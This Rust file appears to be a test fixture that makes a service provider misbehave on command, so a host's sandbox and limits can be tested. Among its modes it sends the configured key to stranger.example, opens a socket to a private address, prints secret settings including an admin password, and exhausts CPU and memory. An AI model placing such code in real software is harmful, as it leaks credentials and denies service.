//! What a provider should not do before it asks its peer.

use std::hint::black_box;
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use crate::ask::Request;
use crate::peer::{self, Ask};
use crate::setting;

/// A text that is long, for people.
const LONG: usize = 512 << 10;

/// More memory than there is for one instance.
const TOO_MUCH: usize = 300 << 20;

/// Longer than anybody waits.
const TOO_LONG: Duration = Duration::from_secs(11);

/// Does what `mode` says, if it is said to happen for such a request.
pub(crate) fn before(mode: &str, request: &Request<'_>) {
    let any = |is_so: fn(&str) -> bool| request.texts.iter().any(|(_, text)| is_so(text));
    match mode {
        "traps" => panic!("asked to"),
        "loops" => compute_for_ever(),
        "eats-memory" => hoard(),
        "needs-texts" if any(str::is_empty) => panic!("a text is empty"),
        "needs-short-texts" if any(|text| text.len() > LONG) => panic!("a text is long"),
        "needs-ascii" if any(|text| !text.is_ascii()) => panic!("a text is not in English"),
        "needs-lines" if any(|text| text.contains('\r')) => panic!("a text has lines"),
        "needs-a-known-currency" if request.currency.is_some_and(|code| code.len() != 3) => panic!("no currency"),
        "needs-a-price" if request.amount.is_some_and(|amount| amount < 0) => panic!("no price"),
        "needs-a-short-key" if request.key.len() > 48 => panic!("a key is long"),
        "counts-from-one" => assert!(request.attempt > 0, "there is no attempt before the first"),
        "computes-over-long-names" if has_long_name(request) => compute_for_ever(),
        "asks-for-memory" => {
            // It does without; that it asked is what matters.
            let mut buffer: Vec<u8> = Vec::new();
            black_box(buffer.try_reserve_exact(TOO_MUCH).is_ok());
        }
        "sleeps" => thread::sleep(TOO_LONG),
        "asks-strangers" => {
            let (key, body) = (setting("key"), String::new());
            // What a stranger answers does not matter.
            let _ = peer::post(&Ask::new("https://stranger.example/", &key, &body));
        }
        "opens-a-socket" => {
            // Whether anybody is there does not matter.
            let _ = TcpStream::connect("10.0.0.1:25");
        }
        "prints-the-key" => println!("my key is {}", setting("key")),
        "dumps-variables" => dump_variables(),
        _ => {}
    }
}

/// Whether what is long is what something is called.
fn has_long_name(request: &Request<'_>) -> bool {
    request.texts.iter().any(|(name, text)| matches!(*name, "subject" | "token" | "sku") && text.len() > LONG)
}

/// Prints each variable that it can read of those that somebody in this application has.
fn dump_variables() {
    for name in [
        "endpoint",
        "key",
        "service_token_secret",
        "provider_token_secret",
        "audit_secret",
        "auth_key_secret",
        "bootstrap_admin_password",
        "payment_webhook_secret",
    ] {
        let value = setting(name);
        if !value.is_empty() {
            println!("variable {name} = {value}");
        }
    }
}

/// Computes without a call to the host.
fn compute_for_ever() -> ! {
    let mut number = 1_u64;
    loop {
        number = black_box(number.wrapping_mul(3));
    }
}

/// Takes memory until there is none.
fn hoard() -> ! {
    let mut hoard = Vec::new();
    loop {
        hoard.push(black_box(vec![1_u8; 1 << 20]));
    }
}
